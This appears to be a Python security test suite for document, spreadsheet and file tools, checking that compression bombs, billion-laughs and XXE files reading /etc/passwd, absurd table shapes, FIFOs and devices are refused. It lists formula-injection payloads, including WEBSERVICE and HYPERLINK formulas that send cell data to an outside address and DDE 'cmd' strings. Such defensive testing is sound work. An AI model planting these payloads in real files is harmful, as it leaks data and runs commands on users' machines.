"""Untrusted files: compression bombs, entity expansion, sheets and tables of absurd shape, writes far out,
live formulas from data, and paths that are not files (FIFOs, devices, sockets). Each is refused with a
clear error before a library parses it, or written harmlessly, and nothing hangs."""

from __future__ import annotations

import os
import socket
import stat
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from tests.security import craft
from tests.security.harness import Context, Verdict, add

Build = Callable[[Path], Any]


def refused(app: str, tool: str, args: dict[str, Any], build: Build | None = None,
            words: tuple[str, ...] = ()) -> Callable[[Context], Awaitable[Verdict]]:
    """The call fails with an error (naming `words`), and the file it names is as it was."""

    async def attack(ctx: Context) -> Verdict:
        if build is not None:
            build(ctx.root)
        target = ctx.root / args["path"] if "path" in args else None
        before = target.read_bytes() if target is not None and target.is_file() else None
        result = await ctx.app(app).call(tool, args)
        if result.ok:
            return Verdict(False, "limits", f"{tool} succeeded: {str(result.content)[:200]}")
        missing = [w for w in words if w not in (result.error or "")]
        if missing:
            return Verdict(False, "limits", f"the error does not say {missing}: {result.error}")
        if before is not None and target is not None and target.read_bytes() != before:
            return Verdict(False, "limits", f"{args['path']} was changed")
        return Verdict(True, "limits", result.error or "")

    return attack


# -- compression bombs and entity expansion -----------------------------------------------------
def bomb_docx(root: Path) -> None:
    """0.3 MB expanding to 200 MB of document.xml."""
    paragraph = b"<w:p><w:r><w:t>" + b"A" * 1000 + b"</w:t></w:r></w:p>"
    craft.docx_with(root / "report.docx", craft.repeated(
        f'<?xml version="1.0"?><w:document {craft.W}><w:body>'.encode(), paragraph, 200_000,
        b"</w:body></w:document>"))


def bomb_xlsx(root: Path) -> None:
    """About 2 MB carrying an unused 2 GB part."""
    craft.xlsx_with(root / "budget.xlsx", extra={"xl/media/unused.bin": craft.zeros(2 << 30)}, level=1)


def laughs_docx(root: Path) -> None:
    craft.docx_with(root / "report.docx", (craft.BILLION_LAUGHS + f'<w:document {craft.W}><w:body><w:p><w:r><w:t>'
                                           '&lol9;</w:t></w:r></w:p></w:body></w:document>').encode())


def laughs_xlsx(root: Path) -> None:
    strings = (craft.BILLION_LAUGHS + f'<sst {craft.S} count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    craft.xlsx_with(root / "budget.xlsx", extra={"xl/sharedStrings.xml": strings.encode()})


def xxe_docx(root: Path) -> None:
    craft.docx_with(root / "report.docx", (craft.external_entity("/etc/passwd") + f'<w:document {craft.W}><w:body>'
                                           '<w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>').encode())


def xxe_xlsx(root: Path) -> None:
    sheet = craft.external_entity("/etc/passwd") + craft.worksheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>').decode().split("?>", 1)[1]
    craft.xlsx_with(root / "budget.xlsx", sheet.encode())


def many_parts(root: Path) -> None:
    craft.docx_with(root / "report.docx", craft.document("<w:p/>"),
                    {f"customXml/item{i}.xml": b"<a/>" for i in range(6_000)})


def many_elements(root: Path) -> None:
    craft.docx_with(root / "report.docx", craft.repeated(
        f'<?xml version="1.0"?><w:document {craft.W}><w:body>'.encode(), b"<w:p/>", 8_000_000,
        b"</w:body></w:document>"))


for name, app, tool, args, build, words in [
    ("bomb/docx-200MB-document", "documents", "read_document", {"path": "report.docx"}, bomb_docx, ("expands",)),
    ("bomb/docx-200MB-document-append", "documents", "add_paragraphs", {"path": "report.docx", "paragraphs": ["x"]},
     bomb_docx, ("expands",)),
    ("bomb/xlsx-unused-2GB-part", "spreadsheets", "read_sheet", {"path": "budget.xlsx"}, bomb_xlsx, ("unused.bin",)),
    ("bomb/xlsx-unused-2GB-part-write", "spreadsheets", "set_cell",
     {"path": "budget.xlsx", "cell": "C1", "value": 1}, bomb_xlsx, ("unused.bin",)),
    ("bomb/docx-billion-laughs", "documents", "read_document", {"path": "report.docx"}, laughs_docx, ("DTD",)),
    ("bomb/xlsx-billion-laughs", "spreadsheets", "read_sheet", {"path": "budget.xlsx"}, laughs_xlsx, ("DTD",)),
    ("bomb/docx-external-entity", "documents", "read_document", {"path": "report.docx"}, xxe_docx, ("DTD",)),
    ("bomb/xlsx-external-entity", "spreadsheets", "list_sheets", {"path": "budget.xlsx"}, xxe_xlsx, ("DTD",)),
    ("bomb/too-many-parts", "documents", "read_document", {"path": "report.docx"}, many_parts, ("parts",)),
    ("bomb/millions-of-elements", "documents", "read_document", {"path": "report.docx"}, many_elements, ()),
    ("bomb/not-a-zip", "documents", "read_document", {"path": "report.docx"},
     lambda root: (root / "report.docx").write_bytes(b"PK\x03\x04 not really"), ("not a readable .docx",)),
    ("bomb/truncated-zip", "spreadsheets", "read_sheet", {"path": "budget.xlsx"},
     lambda root: (root / "budget.xlsx").write_bytes(craft.xlsx_with(root / "b.xlsx").read_bytes()[:900]),
     ("not a readable .xlsx",)),
]:
    add(name, "bomb", refused(app, tool, args, build, words), timeout=120)


# -- shapes: one cell far out, merged ranges, spans -------------------------------------------------
def far_cell(root: Path) -> None:
    craft.xlsx_with(root / "budget.xlsx", craft.worksheet(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Item</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'))


def far_merge(root: Path) -> None:
    craft.xlsx_with(root / "budget.xlsx", craft.worksheet(
        '<row r="1"><c r="A1"><v>1</v></c></row>', '<mergeCell ref="A1:XFD1048576"/>'))


def many_merges(root: Path) -> None:
    merges = "".join(f'<mergeCell ref="A{r * 10 + 1}:J{r * 10 + 10}"/>' for r in range(3_000))
    craft.xlsx_with(root / "budget.xlsx", craft.worksheet('<row r="1"><c r="A1"><v>1</v></c></row>', merges))


def cells_without_address(root: Path) -> None:
    craft.xlsx_with(root / "budget.xlsx", craft.worksheet(
        '<row r="1"><c><v>1</v></c></row><row r="1048576"><c><v>2</v></c><c><v>3</v></c></row>'))


def wide_span(root: Path) -> None:
    craft.docx_with(root / "report.docx", craft.document(craft.table(
        '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="400000000"/></w:tcPr><w:p/></w:tc></w:tr>')))


def grid_before(root: Path) -> None:
    craft.docx_with(root / "report.docx", craft.document(craft.table(
        '<w:tr><w:trPr><w:gridBefore w:val="900000000"/></w:trPr><w:tc><w:p/></w:tc></w:tr>')))


def wide_grid(root: Path) -> None:
    craft.docx_with(root / "report.docx", craft.document(craft.table(
        "<w:tr><w:tc><w:p/></w:tc></w:tr>", grid=50_000)))


def big_table(root: Path) -> None:
    row = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 900 + "</w:tr>"
    craft.docx_with(root / "report.docx", craft.document(craft.table(row * 1_200, grid=900)))


def bad_span(root: Path) -> None:
    craft.docx_with(root / "report.docx", craft.document(craft.table(
        '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="lots"/></w:tcPr><w:p/></w:tc></w:tr>')))


for name, app, tool, args, build, words in [
    ("shape/xlsx-cell-at-XFD1048576-read", "spreadsheets", "read_sheet", {"path": "budget.xlsx"}, far_cell,
     ("XFD1048576", "cells")),
    ("shape/xlsx-cell-at-XFD1048576-totals", "spreadsheets", "column_totals", {"path": "budget.xlsx"}, far_cell, ()),
    ("shape/xlsx-cell-at-XFD1048576-append", "spreadsheets", "append_rows",
     {"path": "budget.xlsx", "rows": [["x", 1]]}, far_cell, ()),
    ("shape/xlsx-cell-at-XFD1048576-chart", "spreadsheets", "add_chart",
     {"path": "budget.xlsx", "kind": "bar", "data": "A1:B2", "title": "t"}, far_cell, ()),
    ("shape/xlsx-merged-to-XFD1048576", "spreadsheets", "read_sheet", {"path": "budget.xlsx"}, far_merge,
     ("merged",)),
    ("shape/xlsx-many-merged-ranges", "spreadsheets", "list_sheets", {"path": "budget.xlsx"}, many_merges,
     ("merged",)),
    ("shape/xlsx-cells-without-address", "spreadsheets", "read_sheet", {"path": "budget.xlsx"},
     cells_without_address, ("cells",)),
    ("shape/docx-gridSpan-400000000-read", "documents", "read_document", {"path": "report.docx"}, wide_span,
     ("gridSpan",)),
    ("shape/docx-gridSpan-400000000-table", "documents", "read_table", {"path": "report.docx"}, wide_span, ()),
    ("shape/docx-gridSpan-400000000-cell", "documents", "set_table_cell",
     {"path": "report.docx", "table": 0, "row": 0, "column": 0, "text": "x"}, wide_span, ()),
    ("shape/docx-gridBefore-huge", "documents", "read_table", {"path": "report.docx"}, grid_before, ()),
    ("shape/docx-50000-grid-columns", "documents", "read_document", {"path": "report.docx"}, wide_grid, ()),
    ("shape/docx-table-of-a-million-cells", "documents", "table_totals", {"path": "report.docx"}, big_table, ()),
    ("shape/docx-span-not-a-number", "documents", "read_document", {"path": "report.docx"}, bad_span,
     ("not a number",)),
]:
    add(name, "shape", refused(app, tool, args, build, words), timeout=120)


# -- writes far out: an AppAgent must not make a workbook unusable -----------------------------------
def workbook(root: Path) -> None:
    craft.xlsx_with(root / "budget.xlsx")


for name, tool, args in [
    ("write/set-cell-XFD1048576", "set_cell", {"path": "budget.xlsx", "cell": "XFD1048576", "value": 1}),
    ("write/set-cell-on-sheet-XFD1048576", "set_cell", {"path": "budget.xlsx", "cell": "Data!XFD1048576",
                                                         "value": 1}),
    ("write/rows-at-the-last-row", "write_rows", {"path": "budget.xlsx", "start": "A1048576", "rows": [[1, 2]]}),
    ("write/rows-far-right", "write_rows", {"path": "budget.xlsx", "start": "XFA900", "rows": [[1, 2]]}),
]:
    add(name, "write", refused("spreadsheets", tool, args, workbook, ("used range",)))


# -- formulas from data are text ----------------------------------------------------------------
LIVE = ['=HYPERLINK("http://198.51.100.7/?"&B2,"details")', '=WEBSERVICE("http://198.51.100.7/?"&B2)',
        "=cmd|'/c calc'!A1", "=IMPORTXML(\"http://198.51.100.7\",\"//a\")", "=-2+3+cmd|'/c calc'!A0",
        "=FILTERXML(WEBSERVICE(\"http://x\"),\"//a\")"]


def formula_as_text(tool: str, value: str) -> Callable[[Context], Awaitable[Verdict]]:
    async def attack(ctx: Context) -> Verdict:
        workbook(ctx.root)
        sheets = ctx.app("spreadsheets")
        args: dict[str, Any] = {"path": "budget.xlsx"}
        if tool == "append_rows":
            args["rows"] = [["Leak", value]]
        elif tool == "write_rows":
            args |= {"start": "A5", "rows": [["Leak", value]]}
        elif tool == "set_cell":
            args |= {"cell": "B5", "value": value}
        else:  # the label of a Total row
            args |= {"label": value}
        result = await sheets.call(tool, args)
        live = [c.coordinate for row in load_workbook(ctx.root / "budget.xlsx")["Data"].iter_rows() for c in row
                if c.data_type == "f" and not str(c.value).upper().startswith("=SUM(")]
        if live:
            return Verdict(False, "tool", f"live formula(s) written at {live}")
        return Verdict(True, "tool", (result.content or {}).get("note") or result.error or "written as text")

    return attack


for index, value in enumerate(LIVE):
    for tool in ("append_rows", "write_rows", "set_cell"):
        add(f"formula/{tool}-{index}", "formula", formula_as_text(tool, value))
add("formula/totals-row-label", "formula", formula_as_text("add_totals_row", LIVE[0]))


def sorted_copy(formula: str, word: str) -> Callable[[Context], Awaitable[Verdict]]:
    """A workbook already holding a formula that reaches out: sort_rows does not carry it into a copy."""

    async def attack(ctx: Context) -> Verdict:
        from openpyxl import Workbook

        book = Workbook()
        book.active.title = "Data"
        for row in (["Item", "Amount"], ["b", 2], ["a", formula]):
            book.active.append(row)
        book.save(ctx.root / "budget.xlsx")
        return await refused("spreadsheets", "sort_rows", {"path": "budget.xlsx", "by": "Item", "order": "ascending",
                                                           "target_sheet": "S"}, words=(word,))(ctx)

    return attack


add("formula/sorted-copy-of-a-live-formula", "formula",
    sorted_copy('=WEBSERVICE("http://198.51.100.7/?"&A2)', "WEBSERVICE"))
add("formula/sorted-copy-of-a-dde-link", "formula", sorted_copy("=cmd|'/c calc'!A1", "DDE"))
add("formula/sorted-copy-of-an-external-link", "formula", sorted_copy("=[1]Sheet1!A1", "another workbook"))


# -- paths that are not files: FIFOs, devices, sockets -------------------------------------------------
def fifo(name: str) -> Build:
    def build(root: Path) -> None:
        (root / name).unlink(missing_ok=True)
        os.mkfifo(root / name)

    return build


def device(root: Path) -> None:
    try:
        os.mknod(root / "notes.bin", 0o644 | stat.S_IFCHR, os.makedev(1, 5))  # what /dev/zero is
    except PermissionError:  # not root: a device cannot appear here, a FIFO stands in for it
        os.mkfifo(root / "notes.bin")


def unix_socket(root: Path) -> None:
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(root / "notes.sock"))
    unix_socket.keep = server  # type: ignore[attr-defined]


for name, app, tool, args, build in [
    ("fifo/read_file", "files", "read_file", {"path": "notes.txt"}, fifo("notes.txt")),
    ("fifo/copy", "files", "copy_or_move", {"mode": "copy",
                                            "source": "notes.txt", "destination": "copy.txt"}, fifo("notes.txt")),
    ("fifo/copy-folder-holding-one", "files", "copy_or_move", {"mode": "copy", "source": "sub", "destination": "sub2"},
     fifo("sub/pipe.txt")),
    ("fifo/copy-pattern", "files", "copy_or_move", {"mode": "copy",
                                                    "source": "*.txt", "destination": "backup"}, fifo("notes.txt")),
    ("fifo/read_document", "documents", "read_document", {"path": "report.docx"}, fifo("report.docx")),
    ("fifo/add_paragraphs", "documents", "add_paragraphs", {"path": "report.docx", "paragraphs": ["x"]},
     fifo("report.docx")),
    ("fifo/read_sheet", "spreadsheets", "read_sheet", {"path": "budget.xlsx"}, fifo("budget.xlsx")),
    ("fifo/list_sheets", "spreadsheets", "list_sheets", {"path": "budget.xlsx"}, fifo("budget.xlsx")),
    ("fifo/set_cell", "spreadsheets", "set_cell", {"path": "budget.xlsx", "cell": "A1", "value": 1},
     fifo("budget.xlsx")),
    ("device/read_file", "files", "read_file", {"path": "notes.bin"}, device),
    ("device/copy", "files", "copy_or_move", {"mode": "copy",
                                              "source": "notes.bin", "destination": "copy.bin"}, device),
    ("socket/read_file", "files", "read_file", {"path": "notes.sock"}, unix_socket),
]:
    add(name, "special", refused(app, tool, args, build, ()), timeout=20)


async def fifo_unchanged_check(ctx: Context) -> Verdict:
    """write_file compares what a file holds before it writes: on a FIFO that compare must not block."""
    fifo("notes.txt")(ctx.root)
    files = ctx.app("files")
    sensitive = files.is_sensitive("write_file", {"path": "notes.txt", "content": "x", "overwrite": True})
    result = await files.call("write_file", {"path": "notes.txt", "content": "x", "overwrite": True})
    return Verdict(sensitive, "approval", f"held for approval; {result.error or 'replaced'}")


add("fifo/write-over-one", "special", fifo_unchanged_check, timeout=20)


async def fifo_made_by_a_command(ctx: Context) -> Verdict:
    """An approved command leaves a FIFO named notes.txt; reading it afterwards answers at once."""
    from tests.security.probes_boundary import forced

    await forced(ctx, ["sh", "-c", "rm notes.txt && mkfifo notes.txt"], write=True)
    if not stat.S_ISFIFO(os.lstat(ctx.root / "notes.txt").st_mode):
        return Verdict(False, "limits", "the command did not leave a FIFO: the probe tests nothing")
    return await refused("files", "read_file", {"path": "notes.txt"}, words=("FIFO",))(ctx)


add("fifo/made-by-an-approved-command", "special", fifo_made_by_a_command, timeout=30)


# -- what a tool hands back is capped ------------------------------------------------------------
async def long_document(ctx: Context) -> Verdict:
    import random

    words = random.Random(7).choices(["budget", "rent", "travel", "quarter", "total", "report", "staff", "plan",
                                      "north", "south", "review", "notes", "alpha", "omega", "delta"], k=600_000)
    paragraphs = (f"<w:p><w:r><w:t>{' '.join(words[i:i + 150])}</w:t></w:r></w:p>" for i in range(0, len(words), 150))
    craft.docx_with(ctx.root / "report.docx", craft.document("".join(paragraphs)))
    result = await ctx.app("documents").call("read_document", {"path": "report.docx"})
    shown = sum(len(b.get("text", "")) for b in (result.content or {}).get("blocks", []))
    if not result.ok or shown > 110_000 or not result.content.get("truncated"):
        return Verdict(False, "limits", f"read_document showed {shown} characters: {result.error}")
    return Verdict(True, "limits", result.content["note"])


add("cap/read-document-of-4MB-text", "cap", long_document, timeout=60)


# -- formulas from data by other routes: a .csv imported or merged, a merged cell's text, a column's header,
# and text that only looked like a formula copied by a tool that moves formulas -------------------------
def live_cells(path: Path) -> list[str]:
    """Cells holding a formula that reaches outside the workbook."""
    from podium.apps.formulas import formula_problem

    book = load_workbook(path)
    return [f"{sheet.title}!{c.coordinate}" for sheet in book.worksheets for row in sheet.iter_rows() for c in row
            if c.data_type == "f" and formula_problem(str(c.value)) is not None]


def live_by(tool: str, args: dict[str, Any], build: Build) -> Callable[[Context], Awaitable[Verdict]]:
    """After `tool` runs on what `build` left, no cell of budget.xlsx holds a formula made from data."""

    async def attack(ctx: Context) -> Verdict:
        build(ctx.root)
        result = await ctx.app("spreadsheets").call(tool, args)
        live = live_cells(ctx.root / "budget.xlsx") if (ctx.root / "budget.xlsx").exists() else []
        if live:
            return Verdict(False, "tool", f"{tool} left live formula(s) from data at {live}")
        return Verdict(True, "tool", result.error or (result.content or {}).get("note") or "written as text")

    return attack


def leaky_csv(root: Path) -> None:
    workbook(root)
    rows = [["Item", "Amount"], ["Leak", LIVE[0]], ["Call", LIVE[2]]]
    (root / "leak.csv").write_text("".join(",".join(f'"{v.replace(chr(34), 2 * chr(34))}"' for v in row) + "\n"
                                           for row in rows))


def text_that_looks_live(root: Path) -> None:
    """A workbook whose data cells hold text starting with '=' (as write_rows stores a value from data)."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "Data"
    for row in (["Item", "Region", "Amount"], ["a", "North", 1], ["b", "South", 2], ["c", "North", LIVE[1]]):
        book.active.append(row)
    book.active["C4"].data_type = "s"
    book.save(root / "budget.xlsx")


for name, tool, args, build in [
    ("formula/import_csv-of-a-live-csv", "import_csv", {"path": "budget.xlsx", "source": "leak.csv", "sheet": "In"},
     leaky_csv),
    ("formula/merge_tables-from-a-live-csv", "merge_tables", {"path": "budget.xlsx", "sheet": "Data",
                                                              "source": "leak.csv"}, leaky_csv),
    ("formula/merge_cells-text", "merge_cells", {"path": "budget.xlsx", "range": "D1:E1", "text": LIVE[0]},
     workbook),
    ("formula/formula-column-header", "add_formula_column", {"path": "budget.xlsx", "header": LIVE[1],
                                                             "formula": "=B2*2"}, workbook),
    ("formula/split-copies-text-as-live", "split_by_column", {"path": "budget.xlsx", "by": "Region"},
     text_that_looks_live),
    ("formula/filter-copies-text-as-live", "filter_rows", {"path": "budget.xlsx", "target_sheet": "Kept"},
     text_that_looks_live),
]:
    add(name, "formula", live_by(tool, args, build))


# -- FIFOs met by the tools that edit text in place or compare before they write: what a call would change
# is asked before it runs (in the host's event loop), so that must not block either ------------------------
def effects_then_call(app: str, tool: str, args: dict[str, Any], build: Build) -> Callable[[Context],
                                                                                           Awaitable[Verdict]]:
    async def attack(ctx: Context) -> Verdict:
        build(ctx.root)
        application = ctx.app(app)
        effects = application.effects(tool, args)
        sensitive = application.is_sensitive(tool, args)
        result = await application.call(tool, args)
        if result.ok and sensitive:  # a replacement of what is there, as write_file's over a FIFO
            return Verdict(True, "approval", f"held for approval as {effects}; replaced by a file")
        if result.ok:
            return Verdict(False, "limits", f"{tool} ran on a FIFO unasked: {result.content}")
        return Verdict(True, "limits", f"effects {effects}, sensitive {sensitive}; {result.error}")

    return attack


for name, app, tool, args, build in [
    ("fifo/replace_text", "files", "replace_text", {"path": "notes.txt", "find": "a", "replace_with": "b"},
     fifo("notes.txt")),
    ("fifo/append_at_end", "files", "append_at_end", {"path": "notes.txt", "text": "more"}, fifo("notes.txt")),
    ("fifo/write_csv_table-over-one", "files", "write_csv_table", {"path": "out.csv", "rows": [["a"]],
                                                                   "overwrite": True}, fifo("out.csv")),
    ("fifo/read_csv", "files", "read_csv", {"path": "out.csv"}, fifo("out.csv")),
    ("fifo/import_csv", "spreadsheets", "import_csv", {"path": "budget.xlsx", "source": "out.csv"},
     lambda root: (workbook(root), fifo("out.csv")(root))),
]:
    add(name, "special", effects_then_call(app, tool, args, build), timeout=20)
